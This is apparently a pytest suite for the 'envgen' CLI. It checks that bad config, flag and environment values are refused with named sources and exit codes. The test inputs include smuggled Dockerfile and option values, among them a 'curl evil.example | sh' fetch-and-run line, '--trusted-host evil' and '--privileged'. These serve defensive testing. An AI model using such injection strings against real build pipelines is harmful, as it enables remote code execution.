"""Bad values from flags, config files and environment variables: each is refused where it
enters, with the value's source named, a fix, exit 2 (usage) — and nothing is written."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest
from support.faultkit import tree

fault = pytest.mark.fault

NEWLINE_BASE = "debian:12\nRUN curl evil.example | sh"


@pytest.fixture
def mx(fixture_matrix):
    return ["--matrix-dir", str(fixture_matrix)]


@fault("I01", "config value of the wrong type (matrix-dir = 5)", exit=2)
def test_config_value_of_wrong_type(cli):
    Path("envgen.toml").write_text("matrix-dir = 5\n")
    r = cli("resolve", "--framework", "deepspeed")
    assert r.code == 2 and r.says("envgen.toml:matrix-dir must be a string, not int",
                                  "source: ", "hint: write it as a quoted string")


@fault("I02", "config file that is not TOML", exit=2)
def test_config_not_toml(cli):
    Path("envgen.toml").write_text("matrix-dir = [unclosed\n")
    r = cli("resolve")
    assert r.code == 2 and r.says("is not valid TOML", "hint: fix the file or remove it")


@fault("I03", "unknown config key (a typo)", exit=2)
def test_config_unknown_key(cli):
    Path("envgen.toml").write_text('registy = "typo"\n')
    r = cli("resolve")
    assert r.code == 2 and r.says("unknown envgen setting(s): registy", "known settings:")


@fault("I04", "[defaults] python = 3.10 unquoted (TOML reads the number 3.1)", exit=2)
def test_defaults_float_python(cli, mx):
    Path("envgen.toml").write_text("[defaults]\npython = 3.10\n")
    r = cli(*mx, "resolve")
    assert r.code == 2 and r.says("envgen.toml:defaults.python must be a string, not float",
                                  "TOML reads an unquoted 3.10 as the number 3.1")


@fault("I05", "[defaults] value unknown to the matrix is blamed on the config key", exit=2)
def test_defaults_bad_os_names_config(cli, mx):
    Path("envgen.toml").write_text('[defaults]\nos = "ubuntu-99.04"\n')
    r = cli(*mx, "resolve", "--json")
    assert r.code == 2 and r.error["source"].endswith("envgen.toml:defaults.os")
    assert "did you mean" in r.error["fix"]


@fault("I06", "config file that is not UTF-8", exit=2)
def test_config_not_utf8(cli):
    Path("envgen.toml").write_bytes(b'out = "\xff\xfe"\n')
    r = cli("resolve")
    assert r.code == 2 and r.says("envgen.toml")


@fault("I07", "ENVGEN_MATRIX_DIR pointing at a file", exit=1)
def test_matrix_dir_env_is_a_file(cli, tmp_path):
    f = tmp_path / "afile"
    f.write_text("x")
    r = cli("resolve", "--json", env={"ENVGEN_MATRIX_DIR": str(f)})
    assert r.code == 1 and r.error["source"] == "ENVGEN_MATRIX_DIR"
    assert "is not a directory" in r.error["message"]


@fault("I08", "--matrix-dir that does not exist", exit=1)
def test_matrix_dir_flag_missing(cli, tmp_path):
    r = cli("--matrix-dir", str(tmp_path / "nowhere"), "resolve")
    assert r.code == 1 and r.says("no matrix data at", "does not exist", "source: --matrix-dir")


@fault("I09", "newline in --base adds Dockerfile instructions (injection)", exit=2)
def test_newline_in_base_flag(cli, mx):
    r = cli(*mx, "make", "--framework", "deepspeed", "--image", "--base", NEWLINE_BASE)
    assert r.code == 2 and r.says("--base", "contains a control character", "source: --base")
    assert tree(".") == {}


@fault("I10", "newline in ENVGEN_BASE_IMAGE (injection)", exit=2)
def test_newline_in_base_env(cli, mx):
    r = cli(*mx, "make", "--framework", "deepspeed", "--image", env={
        "ENVGEN_BASE_IMAGE": NEWLINE_BASE})
    assert r.code == 2 and r.says("source: ENVGEN_BASE_IMAGE")
    assert "resolved" not in r.err  # refused before any work
    assert tree(".") == {}


@fault("I11", "newline in config base-image (injection)", exit=2)
def test_newline_in_base_config(cli, mx):
    Path("envgen.toml").write_text(f"base-image = {json.dumps(NEWLINE_BASE)}\n")
    r = cli(*mx, "make", "--framework", "deepspeed", "--image")
    assert r.code == 2 and r.says("envgen.toml:base-image")
    assert sorted(tree(".")) == ["envgen.toml"]


@fault("I12", "a base image that is not an image reference ('debian AS x', '--privileged')",
       exit=2)
@pytest.mark.parametrize("value", ["debian:12 AS evil", "--privileged", "UPPER/Case:1",
                                   "debian:12@sha256:short"])
def test_base_not_a_reference(cli, mx, value):
    r = cli(*mx, "make", "--framework", "deepspeed", "--image", f"--base={value}")
    assert r.code == 2 and r.says("is not an image reference")


@fault("I13", "newline or whitespace in an index URL (lock header injection)", exit=2)
@pytest.mark.parametrize("flag", ["--index-url", "--extra-index-url", "--torch-index-url",
                                  "--channel-alias"])
def test_newline_in_urls(cli, mx, flag):
    r = cli(*mx, "make", "--framework", "deepspeed", flag,
            "https://pypi.example/simple\n--trusted-host evil")
    assert r.code == 2 and r.says(f"source: {flag}")
    assert tree(".") == {}


@fault("I14", "an index URL that is not a URL (no scheme, ftp://)", exit=2)
@pytest.mark.parametrize("value", ["pypi.example/simple", "ftp://pypi.example/simple"])
def test_not_a_url(cli, mx, value):
    r = cli(*mx, "make", "--framework", "deepspeed", "--index-url", value)
    assert r.code == 2 and r.says("is not a https/http URL")


@fault("I15", "ENVGEN_CHANNELS with a control character", exit=2)
def test_channel_env_control(cli, mx):
    r = cli(*mx, "make", "--framework", "deepspeed", env={"ENVGEN_CHANNELS": "conda-forge\x1b[2J"})
    assert r.code == 2 and r.says("source: ENVGEN_CHANNELS", "control character")


@fault("I16", "--exclude-newer that is not a date ('yesterday'), refused before solving",
       exit=2)
def test_exclude_newer_not_a_date(cli, mx):
    r = cli(*mx, "make", "--framework", "deepspeed", "--exclude-newer", "yesterday")
    assert r.code == 2 and r.says("not an RFC 3339 date", "YYYY-MM-DD")
    assert "resolved" not in r.err and "solving" not in r.err


@fault("I17", "--combination that is not a combination id", exit=2)
def test_combination_malformed(cli, mx):
    r = cli(*mx, "make", "--combination", "deepspeed-latest")
    assert r.code == 2 and r.says("is not a combination id")


@fault("I18", "--combination with a contradicting --cuda/--os/--framework", exit=2)
@pytest.mark.parametrize("flags", [["--cuda", "12.1"], ["--os", "rocky-9"],
                                   ["--framework", "colossalai"], ["--python", "3.12"]])
def test_combination_conflicts(cli, mx, flags):
    r = cli(*mx, "make", "--combination",
            "deepspeed-0.18.2-torch2.9.0-cu128-py3.11-debian12-x86_64", *flags)
    assert r.code == 2 and r.says("contradicts", flags[0], "drop the contradicting option")
    assert tree(".") == {}


@fault("I19", "--limit negative", exit=2)
def test_limit_negative(cli, mx):
    r = cli(*mx, "resolve", "--limit", "-1")
    assert r.code == 2 and r.says("--limit -1 is negative")


@fault("I20", "unknown framework gets a did-you-mean", exit=2)
def test_unknown_framework(cli, mx):
    r = cli(*mx, "resolve", "--framework", "deepsped", "--json")
    assert r.code == 2 and "did you mean 'deepspeed'" in r.error["fix"]
    assert r.error["source"] == "--framework"


@fault("I21", "a well-formed request nothing satisfies: infeasible, explained", exit=3)
def test_infeasible(cli, mx):
    r = cli(*mx, "resolve", "--framework", "deepspeed", "--cuda", "10.2", "--json")
    assert r.code == 3 and r.error["kind"] == "infeasible"
    assert r.error["explanation"]["nearest"]


@fault("I22", "--gpu-arch that is no GPU architecture", exit=2)
def test_bad_gpu_arch(cli, mx):
    r = cli(*mx, "resolve", "--gpu-arch", "hopper")
    assert r.code == 2 and r.says("is not a GPU architecture", "source: --gpu-arch")


@fault("I23", "--ca-cert that is not a PEM file", exit=2)
def test_ca_cert_not_pem(cli, mx, tmp_path):
    bad = tmp_path / "ca.pem"
    bad.write_text("not a certificate\n")
    r = cli(*mx, "make", "--framework", "deepspeed", "--ca-cert", bad)
    assert r.code == 2 and r.says("holds no PEM certificate", "source: --ca-cert")


@fault("I24", "ENVGEN_CA_CERT naming a missing file is blamed on ENVGEN_CA_CERT", exit=2)
@pytest.mark.parametrize("command", [["make", "--framework", "deepspeed"],
                                     ["matrix", "update", "--offline"]])
def test_ca_cert_env_missing(cli, mx, tmp_path, command):
    r = cli(*mx, *command, "--json", env={"ENVGEN_CA_CERT": str(tmp_path / "nope.pem")})
    assert r.code == 2 and r.error["source"] == "ENVGEN_CA_CERT"
    assert "--ca-cert" not in r.error["message"]


@fault("I25", "ENVGEN_ENGINE / config engine that is not an engine", exit=2)
def test_engine_env(cli, mx, tmp_path):
    (tmp_path / "lock").mkdir()
    r = cli(*mx, "build", tmp_path / "lock", env={"ENVGEN_ENGINE": "podman"})
    assert r.code == 2 and r.says("ENVGEN_ENGINE 'podman' is not one of sdk, buildkit")


@fault("I26", "build --tag / --label / --build-arg / --network / --registry of the wrong shape",
       exit=2)
@pytest.mark.parametrize("flags, message", [
    (["--tag", "x:1\nLABEL evil=1"], "control character"),
    (["--tag", "--privileged"], "is not a valid tag"),
    (["--tag", "ghcr.io/acme/x:--privileged"], "is not an image reference"),
    (["--label", "org.example.x"], "is not KEY=VALUE"),
    (["--label", "io.envgen.lock-hash=forged"], "envgen sets the io.envgen.* labels itself"),
    (["--build-arg", "1BAD=x"], "is not a name"),
    (["--build-arg", "NOVALUE"], "is not KEY=VALUE"),
    (["--network", "--privileged"], "is not a valid name"),
    (["--registry", "https://ghcr.io/acme"], "is not a registry host[/path]"),
])
def test_build_option_shapes(cli, mx, tmp_path, flags, message):
    (tmp_path / "lock").mkdir()
    r = cli(*mx, "build", tmp_path / "lock", f"{flags[0]}={flags[1]}")
    assert r.code == 2 and r.says(message, f"source: {flags[0]}")


@fault("I27", "verify --python that does not exist / is a folder", exit=2)
@pytest.mark.parametrize("python", ["/nonexistent/bin/python", "no-such-python3", "."])
def test_verify_python_missing(cli, python):
    r = cli("verify", "ops", "--framework", "deepspeed", "--python", python)
    assert r.code == 2 and r.says("--python", "source: --python")


@fault("I28", "verify --image that would be read as a docker option", exit=2)
def test_verify_image_option_injection(cli):
    r = cli("verify", "ops", "--framework", "deepspeed", "--image=--privileged")
    assert r.code == 2 and r.says("is not an image reference")


@fault("I29", "verify --nproc 0 / --timeout -1 / --ops ''", exit=2)
@pytest.mark.parametrize("flags, message", [(["--nproc", "0"], "at least one process"),
                                            (["--timeout", "-1"], "--timeout must be > 0"),
                                            (["--ops", ","], "--ops is empty")])
def test_verify_numbers(cli, flags, message):
    r = cli("verify", "smoke", "--framework", "deepspeed", *flags)
    assert r.code == 2 and r.says(message)


@fault("I30", "an unknown option under --json is a JSON usage error", exit=2)
def test_unknown_option_json(cli, mx):
    r = cli(*mx, "resolve", "--json", "--frmework", "deepspeed")
    assert r.code == 2 and r.error["kind"] == "usage"
    assert "unrecognized arguments" in r.error["message"]


@fault("I31", "a command without its subcommand", exit=2)
@pytest.mark.parametrize("argv", [["matrix"], ["results"], []])
def test_missing_subcommand(cli, mx, argv):
    r = cli(*mx, *argv)
    assert r.code == 2


@fault("I32", "--data pointing inside the installed package", exit=4)
def test_data_dir_inside_package(cli, mx):
    import envgen

    target = str(__import__("pathlib").Path(envgen.__file__).parent / "_data")
    r = cli(*mx, "--data", target, "resolve", "--json")
    assert r.code == 4 and r.error["kind"] == "filesystem"
    assert "never writes there" in r.error["message"] and r.error["source"] == "--data"


@fault("I33", "a request flag with a control character", exit=2)
def test_request_control_character(cli, mx):
    r = cli(*mx, "resolve", "--framework", "deepspeed\x00")
    assert r.code == 2 and r.says("control character", "source: --framework")


@fault("I34", "a --framework-version / --torch that is no version", exit=2)
@pytest.mark.parametrize("flag", ["--torch", "--framework-version"])
def test_not_a_version(cli, mx, flag):
    r = cli(*mx, "resolve", "--framework", "deepspeed", flag, "latest")
    assert r.code == 2 and r.says("is not a version", f"source: {flag}")


@fault("I35", "a terminal that cannot encode envgen's output (PYTHONIOENCODING=ascii)", exit=0)
def test_ascii_terminal(fixture_matrix):
    from support.faultkit import run_subprocess

    r = run_subprocess("--matrix-dir", fixture_matrix, "resolve", "--framework", "deepspeed",
                       "--limit", "1", env={"PYTHONIOENCODING": "ascii"})
    assert r.code == 0 and "\\u2265" in r.out  # "≥", escaped instead of a crash


@fault("I36", "a path argument that is not UTF-8 (a surrogate-escaped byte)", exit=2)
def test_non_utf8_argument(fixture_matrix):
    from support.faultkit import run_subprocess

    r = run_subprocess("--matrix-dir", fixture_matrix, "resolve", "--framework",
                       os.fsdecode(b"deep\xffspeed"))
    assert r.code == 2 and "unknown framework" in r.err
